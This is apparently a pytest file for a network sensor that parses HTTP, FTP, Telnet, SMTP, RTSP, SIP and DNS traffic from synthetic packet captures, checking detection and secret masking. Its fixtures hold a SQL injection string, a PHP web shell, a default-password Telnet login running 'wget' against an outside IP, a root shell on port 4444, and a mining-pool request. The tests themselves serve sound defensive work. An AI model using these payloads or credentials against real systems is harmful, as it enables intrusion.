"""What does each protocol tell of a conversation, and what does it keep to itself?"""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path

import pytest

from citywatch.model import Event
from tests.sensors.network.packets import ether, ip4, of, pcap, read, talk, udp

Turns = Sequence[tuple[str, bytes]]


def told(folder: Path, dataset: str, turns: Turns, port: int = 80, cut: int = 1400) -> list[Event]:
    events, problems = read(pcap(talk(turns, dport=port, cut=cut)), folder)
    assert problems == []
    return of(events, dataset)


def ask(line: str, *headers: str, body: bytes = b"") -> bytes:
    return ("\r\n".join([line, "Host: portal.test", *headers]) + "\r\n\r\n").encode() + body


OK = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nok"


@pytest.mark.parametrize("cut", [1, 7, 1400])
def test_a_request_and_its_answer_are_one_event_however_they_are_cut(tmp_path: Path, cut: int) -> None:
    line = "GET /tin%2dtuc?id=1%27%20OR%201=1 HTTP/1.1"
    (event,) = told(tmp_path, "http", [(">", ask(line, "User-Agent: x")), ("<", OK)], cut=cut)
    assert event["url.query"] == "id=1%27%20OR%201=1"
    assert event["citywatch.url.decoded"] == "/tin-tuc?id=1' or 1=1"
    assert event["url.full"] == "http://portal.test/tin%2dtuc?id=1%27%20OR%201=1"
    assert (event["http.response.status_code"], event["http.response.body.bytes"]) == (200, 2)
    assert event["citywatch.evidence.what"] == ["response_body"]


def test_pipelined_requests_meet_their_own_answers(tmp_path: Path) -> None:
    first, second = ask("GET /a HTTP/1.1"), ask("HEAD /b HTTP/1.1")
    answers = OK + b"HTTP/1.1 404 No\r\nContent-Length: 99\r\n\r\n"
    events = told(tmp_path, "http", [(">", first + second), ("<", answers)])
    assert [(event["url.path"], event["http.response.status_code"]) for event in events] == [
        ("/a", 200),
        ("/b", 404),
    ]


def test_a_chunked_packed_body_is_unpacked_for_evidence(tmp_path: Path) -> None:
    import gzip  # noqa: PLC0415 - this test only

    packed = gzip.compress(b"<?php system($_GET['c']); ?>", mtime=0)
    parts = b"".join(
        b"%x\r\n%b\r\n" % (len(packed[at : at + 9]), packed[at : at + 9]) for at in range(0, len(packed), 9)
    )
    head = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Encoding: gzip\r\n\r\n"
    (event,) = told(tmp_path, "http", [(">", ask("GET /x.php HTTP/1.1")), ("<", head + parts + b"0\r\n\r\n")])
    assert event["file.mime_type"] == "application/x-php"
    assert event["http.response.body.content"].startswith("<?php system")


def test_passwords_cookies_and_basic_secrets_are_masked_everywhere(tmp_path: Path) -> None:
    body = b"user=an&password=S3cretPw&x=1"
    request = ask(
        "POST /login?token=S3cretPw HTTP/1.1",
        "Cookie: PHPSESSID=S3cretPw",
        "Authorization: Basic YW46UzNjcmV0UHc=",
        "Content-Type: application/x-www-form-urlencoded",
        f"Content-Length: {len(body)}",
        body=body,
    )
    (event,) = told(tmp_path, "http", [(">", request), ("<", OK)])
    assert "S3cretPw" not in str(event)
    assert "UzNjcmV0UHc" not in str(event)
    assert event["citywatch.auth.user"] == ["an"]
    assert "user=an" in event["http.request.body.content"]


def test_what_is_no_http_after_a_request_is_noted_and_the_request_still_told(tmp_path: Path) -> None:
    events, _ = read(pcap(talk([(">", ask("GET / HTTP/1.1")), ("<", b"nonsense\r\n\r\n")])), tmp_path)
    assert of(events, "http")[0]["url.path"] == "/"
    assert of(events, "flow")[0]["citywatch.flow.notes"] == ["malformed http"]


def test_ftp_tells_logins_and_files_and_no_password(tmp_path: Path) -> None:
    turns = [
        ("<", b"220 FTP ready\r\n"), (">", b"USER admin\r\n"), ("<", b"331 ?\r\n"), (">", b"PASS 1234\r\n"),
        ("<", b"530 no\r\n"), (">", b"USER an\r\n"), ("<", b"331 ?\r\n"), (">", b"PASS Q9z!secret\r\n"),
        ("<", b"230 in\r\n"), (">", b"STOR /up/a.php\r\n"), ("<", b"226 done\r\n"),
    ]  # fmt: skip
    events = told(tmp_path, "ftp", turns, 21)
    assert [(event["event.action"], event["event.outcome"]) for event in events] == [
        ("login", "failure"),
        ("login", "success"),
        ("stor", "success"),
    ]
    assert events[0]["tags"] == ["default_password"]
    assert events[2]["file.name"] == "a.php"
    assert "Q9z!secret" not in str(events)


def test_telnet_tells_logins_and_what_is_typed(tmp_path: Path) -> None:
    turns = [
        ("<", b"\xff\xfd\x01\r\nlogin: "), (">", b"root\r\n"), ("<", b"Password: "), (">", b"xc3511\r\n"),
        ("<", b"\r\nBusyBox\r\n# "), (">", b"wget http://203.0.113.9/x\r\n"), ("<", b"# "),
    ]  # fmt: skip
    login, command = told(tmp_path, "telnet", turns, 23)
    assert (login["event.outcome"], login["user.name"], login["tags"]) == (
        "success",
        "root",
        ["default_password"],
    )
    assert command["process.command_line"] == "wget http://203.0.113.9/x"
    assert "xc3511" not in str(login)


def test_a_mail_is_told_with_its_attachment_kept(tmp_path: Path) -> None:
    mail = (
        b"From: a@x.test\r\nSubject: Cong van\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\nhi\r\n"
        b"--B\r\nContent-Type: application/zip\r\nContent-Disposition: attachment; filename=a.zip\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\nUEsDBA==\r\n--B--\r\n.\r\n"
    )
    turns = [
        ("<", b"220 mx ESMTP\r\n"), (">", b"EHLO a\r\n"), ("<", b"250 mx\r\n"),
        (">", b"MAIL FROM:<a@x.test>\r\n"), ("<", b"250 ok\r\n"), (">", b"RCPT TO:<b@y.test>\r\n"),
        ("<", b"250 ok\r\n"), (">", b"DATA\r\n"),
        ("<", b"354 go\r\n"), (">", mail), ("<", b"250 taken\r\n"),
    ]  # fmt: skip
    (event,) = told(tmp_path, "smtp", turns, 25)
    assert event["email.subject"] == "Cong van"
    assert event["email.to.address"] == ["b@y.test"]
    assert event["email.attachments.file.name"] == ["a.zip"]
    assert event["citywatch.evidence.what"] == ["attachment"]


def test_rtsp_pairs_requests_with_verdicts(tmp_path: Path) -> None:
    turns = [
        (">", b'DESCRIBE rtsp://10.0.0.80/1 RTSP/1.0\r\nAuthorization: Digest username="admin"\r\n\r\n'),
        ("<", b"RTSP/1.0 401 Unauthorized\r\nCSeq: 1\r\n\r\n"),
    ]
    (event,) = told(tmp_path, "rtsp", turns, 554)
    assert (event["event.outcome"], event["citywatch.auth.user"]) == ("failure", ["admin"])


def test_rtsp_steps_over_bodies_however_they_are_cut(tmp_path: Path) -> None:
    body = b"v=0\r\n\r\nRTSP/1.0 500 not a head"
    length = b"Content-Length: %d\r\n\r\n" % len(body)
    turns = [
        (">", b"ANNOUNCE rtsp://a/1 RTSP/1.0\r\n" + length + body),
        ("<", b"RTSP/1.0 200 OK\r\n\r\n"),
        (">", b"DESCRIBE rtsp://a/2 RTSP/1.0\r\n\r\nSETUP rtsp://a/3 RTSP/1.0\r\n\r\n"),
        ("<", b"RTSP/1.0 200 OK\r\n" + length + body + b"RTSP/1.0 454 No\r\n\r\n"),
    ]
    for cut in (30, 31, 45, 60, 100, 1400):
        events = told(tmp_path, "rtsp", turns, 554, cut=cut)
        assert [(event["url.original"], event["http.response.status_code"]) for event in events] == [
            ("rtsp://a/1", 200), ("rtsp://a/2", 200), ("rtsp://a/3", 454),
        ]  # fmt: skip


CUT = {
    "http": (80, ask("GET /a HTTP/1.1") + b"\r\n" + ask("GET /b HTTP/1.1").replace(b"\r\n", b"\n"), OK + OK),
    "sip": (5060, b"OPTIONS sip:a SIP/2.0\r\nCall-ID: 1\r\nCSeq: 1 OPTIONS\r\n\r\n" * 2, b""),
    "ftp": (21, b"USER an\r\nPASS b\r\nRETR c.txt\r\n", b""),
    "telnet": (23, b"", b"login: "),
}


@pytest.mark.parametrize("protocol", sorted(CUT))
def test_a_dialogue_says_the_same_however_it_is_cut(tmp_path: Path, protocol: str) -> None:
    port, asked, answered = CUT[protocol]
    turns = [(">", asked), ("<", answered)]
    if protocol == "ftp":
        turns = [("<", b"220 ftp\r\n"), (">", asked), ("<", b"331 go\r\n230 in\r\n150 x\r\n")]
    if protocol == "telnet":
        turns = [
            ("<", answered),
            (">", b"an\r\n"),
            ("<", b"Password: "),
            (">", b"b\r"),
            ("<", b"$ "),
            (">", b"ls\n"),
        ]

    def said(cut: int) -> list[Event]:
        events = told(tmp_path, protocol, turns, port, cut=cut)
        return [
            {name: event[name] for name in event if name not in {"@timestamp", "event.id"}}
            for event in events
        ]

    whole = said(1400)
    assert len(whole) >= 1
    cuts = (25, 29, 31, 47) if protocol == "sip" else (1, 2, 3, 5, 17)  # its first line tells it
    assert [said(cut) for cut in cuts] == [whole] * len(cuts)


def test_a_shell_and_a_pool_are_named_on_their_flow(tmp_path: Path) -> None:
    shell, _ = read(pcap(talk([("<", b"id\n"), (">", b"uid=0(root) gid=0(root)\n")], dport=4444)), tmp_path)
    pool, _ = read(pcap(talk([(">", b'{"id":1,"method":"mining.subscribe","params":[]}\n')])), tmp_path)
    assert of(shell, "flow")[0]["network.protocol"] == "shell"
    assert of(pool, "flow")[0]["network.protocol"] == "stratum"


def test_a_name_that_points_in_a_circle_is_noted_and_ends(tmp_path: Path) -> None:
    raw = bytes.fromhex("123401000001000000000000") + b"\xc0\x0c\0\x01\0\x01"
    events, _ = read(pcap([(1, ether(ip4("10.0.0.5", "10.0.0.1", 17, udp(5000, 53, raw))))]), tmp_path)
    assert of(events, "flow")[0]["citywatch.flow.notes"] == ["malformed dns"]


def test_a_datagram_in_fragments_is_read_whole_and_an_overlap_told(tmp_path: Path) -> None:
    name = b"\x3f" + b"a" * 63 + b"\x3f" + b"b" * 63 + b"\x02vn\0\0\x10\0\x01"
    raw = udp(5000, 53, bytes.fromhex("123401000001000000000000") + name)
    parts = [(raw[:64], 0x2000), (raw[64:128], 0x2008), (raw[128:], 0x0010)]
    order = [parts[2], parts[0], parts[1]]
    frames = [
        (turn, ether(ip4("10.0.0.5", "10.0.0.1", 17, load, frag=frag, number=9)))
        for turn, (load, frag) in enumerate(order)
    ]
    events, _ = read(pcap(frames), tmp_path)
    assert of(events, "dns")[0]["citywatch.dns.name_length"] == 130
    other = (1, ether(ip4("10.0.0.5", "10.0.0.1", 17, b"X" * 64, frag=0x2000, number=9)))
    events, _ = read(pcap([*frames[:2], other, frames[2]]), tmp_path)
    assert "overlapping fragments" in str(events)


@pytest.mark.parametrize(
    ("flags", "state", "shown"),
    [
        (["S"], "S0", "S"),
        ([""], "OTH", "none"),
        (["FPU"], "OTH", "FPU"),
        (["F"], "OTH", "F"),
        (["S", "R"], "RSTOS0", "SR"),
    ],
)
def test_probes_keep_their_flags(tmp_path: Path, flags: list[str], state: str, shown: str) -> None:
    from tests.sensors.network.packets import tcp  # noqa: PLC0415 - this test only

    frames = [
        (turn, ether(ip4("10.0.0.5", "10.0.0.80", 6, tcp(1025, 80, turn, flag))))
        for turn, flag in enumerate(flags)
    ]
    events, _ = read(pcap(frames), tmp_path)
    assert (events[0]["citywatch.flow.state"], events[0]["citywatch.flow.flags"]) == (state, shown)
